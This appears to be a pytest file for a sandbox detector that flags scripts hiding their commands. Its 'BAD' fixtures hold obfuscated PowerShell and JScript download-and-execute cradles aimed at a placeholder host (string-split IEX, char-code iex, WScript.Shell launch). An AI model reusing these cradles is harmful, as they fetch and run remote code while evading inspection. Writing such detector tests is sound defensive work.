"""What traced_script_hides_its_commands must find in running code, and (more) what it must leave alone."""

from __future__ import annotations

import pytest

from tests import files_sandbox as sandbox
from tests import files_scripts as scripts
from tests.workers.attachments.scan import File
from tests.workers.sandbox.run import HARMLESS, found

BAD: dict[str, File] = {
    "base64": ("a.bat", scripts.encoded_command()),
    "out of a script": (
        "b.js",
        f"new ActiveXObject('WScript.Shell').Run('{sandbox.powershell(scripts.CRADLE)}')".encode(),
    ),
    "in pieces": (
        "c.ps1",
        b"& ('I'+'EX') (('{1}{0}' -f 'ttp://a.example/a','h') | % { (New-Object Net.WebClient).DownloadString($_) })",
    ),
    "characters": (
        "d.ps1",
        b"iex (-join ((105,119,114,32,104,116,116,112,58,47,47,97,46,101,120,97,109,112,108,101) | % { [char]$_ }))",
    ),
}
GOOD: dict[str, File] = {
    **HARMLESS,
    "settings in base64": ("e.bat", sandbox.powershell("Set-Location C:\\\\Data").encode()),
    "an installer in the open": ("setup.ps1", scripts.INSTALLER),
}


@pytest.mark.parametrize("file", BAD.values(), ids=BAD)
def test_is_found(file: File) -> None:
    (finding,) = found("traced_script_hides_its_commands", file)
    assert finding.detail
    assert finding.where.decoded


@pytest.mark.parametrize("file", GOOD.values(), ids=GOOD)
def test_is_left_alone(file: File) -> None:
    assert found("traced_script_hides_its_commands", file) == []
